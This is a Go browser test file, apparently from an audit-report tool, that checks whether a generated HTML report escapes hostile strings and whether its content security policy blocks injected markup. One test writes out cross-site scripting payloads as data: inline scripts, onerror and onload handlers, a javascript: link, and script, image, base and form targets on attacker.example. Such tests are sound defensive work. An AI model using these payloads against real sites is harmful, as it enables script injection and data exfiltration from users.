// SPDX-License-Identifier: Apache-2.0

package browser

import (
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"

	"metsuke.dev/metsuke/audit/report/reporttest"
)

// drag presses the pointer at one place, and lets it go at another.
func (x *tab) drag(from, to, y float64) {
	x.t.Helper()
	for _, p := range []input.DispatchMouseEventParams{
		{Type: input.DispatchMouseEventTypeMousePressed, X: from, ClickCount: 1}, {Type: input.DispatchMouseEventTypeMouseMoved, X: (from + to) / 2},
		{Type: input.DispatchMouseEventTypeMouseMoved, X: to}, {Type: input.DispatchMouseEventTypeMouseReleased, X: to, ClickCount: 1},
	} {
		p.Y, p.Button = y, input.MouseButtonLeft
		call(x, input.DispatchMouseEvent, p)
	}
}

// touch does to all elements what a user could, so that a handler that there must not be would run.
const touch = `for (const e of document.querySelectorAll("*")) {
	for (const kind of ["mouseover", "mouseenter", "focus", "error", "load", "toggle", "pointerdown", "pointerup", "animationend"]) e.dispatchEvent(new Event(kind));
	if (!e.closest("#tools") && e.tagName !== "A" && e instanceof HTMLElement) e.click();
}`

// Whatever strings streams hold, nothing of them runs, loads, or leads anywhere. Nothing even tries to: the page's policy has nothing to refuse.
func TestHostileContent(t *testing.T) {
	x := open(t, report(t, "hostile", reporttest.Hostile()), 1280, 900)
	x.run(touch)
	for selector, want := range map[string]int{
		"script": 1, "style": 1, "meta": 5, "img, iframe, object, embed, link, base, image, foreignObject, use, math, video, audio": 0, "form": 1,
		"a:not([href^='#'])": 0, "[style], [src], [srcdoc], [action], [autofocus], [onload], [onerror], [onclick], [onmouseover], [onfocus]": 0,
	} {
		x.count(selector, want)
	}
	x.untouched()
	if n := ask[int](x, `Array.from(document.querySelectorAll("*")).filter((e) => Array.from(e.attributes).some((a) => a.name.startsWith("on"))).length`); n > 0 {
		t.Errorf("%d elements have handlers", n)
	}
	// It is all there to be read, though.
	if body := x.text("body"); !strings.Contains(body, "<script>window.owned=1</script>") || !strings.Contains(body, `\u{202e}txt.exe`) {
		t.Error("what the workload wrote is not shown")
	}
	x.quiet()
}

// untouched fails the test if something has run that is not the page's own.
func (x *tab) untouched() {
	x.t.Helper()
	if owned := ask[string](x, "String(window."+reporttest.Sentinel+")"); owned != "undefined" {
		x.t.Errorf("a string ran: %s", owned)
	}
}

// If escaping failed, the policy would hold: what is put into the page as it is neither runs nor loads. And what it would do is seen by these
// tests.
func TestPolicy(t *testing.T) {
	file := report(t, "hostile", reporttest.Hostile())
	whole, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	raw := strings.Join([]string{
		"<main><script>window.owned=1</script>", `<img src="x" onerror="window.owned=2">`, `<svg onload="window.owned=3"></svg>`,
		`<img src="https://attacker.example/x.png">`, `<iframe srcdoc="<script>parent.owned=4</script>"></iframe>`, `<style>body{display:none}</style>`,
		`<b style="position:fixed">x</b>`, `<a id="leads" href="javascript:window.owned=5">x</a>`, `<base href="https://attacker.example/">`,
		`<form id="sends" action="https://attacker.example/"></form>`, `<script src="https://attacker.example/x.js"></script>`,
	}, "\n")
	changed := strings.Replace(string(whole), "<main>", raw, 1)
	if changed == string(whole) {
		t.Fatal("the page has no place for it")
	}
	if err := os.WriteFile(file, []byte(changed), 0o600); err != nil {
		t.Fatal(err)
	}
	x := open(t, file, 1280, 900)
	x.run(touch + `document.getElementById("leads").click(); document.getElementById("sends").submit()`)
	x.untouched()
	if n := x.seen("h1"); n != 1 {
		t.Error("a style was applied")
	}
	// The browser tells of refusals when it comes to it.
	want := []string{"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "style-src-attr", "base-uri", "form-action"}
	for end := time.Now().Add(deadline); ; time.Sleep(50 * time.Millisecond) {
		missing, sent := x.notRefused(want), x.sent()
		if len(missing) == 0 && len(sent) == 0 {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("the policy did not refuse %q, and let go %q", missing, sent)
		}
	}
}

// notRefused returns the directives that nothing was refused by so far.
func (x *tab) notRefused(directives []string) (missing []string) {
	x.mu.Lock()
	defer x.mu.Unlock()
	for _, d := range directives {
		if !strings.Contains(strings.Join(x.refused, "\n"), d) {
			missing = append(missing, d)
		}
	}
	return missing
}

// sent returns what was asked for, but for the page itself, and was not blocked by its policy so far.
func (x *tab) sent() (requests []string) {
	x.mu.Lock()
	defer x.mu.Unlock()
	for i, request := range x.requests {
		if request != x.url() && !slices.Contains(x.blocked, x.numbers[i]) {
			requests = append(requests, request)
		}
	}
	return requests
}
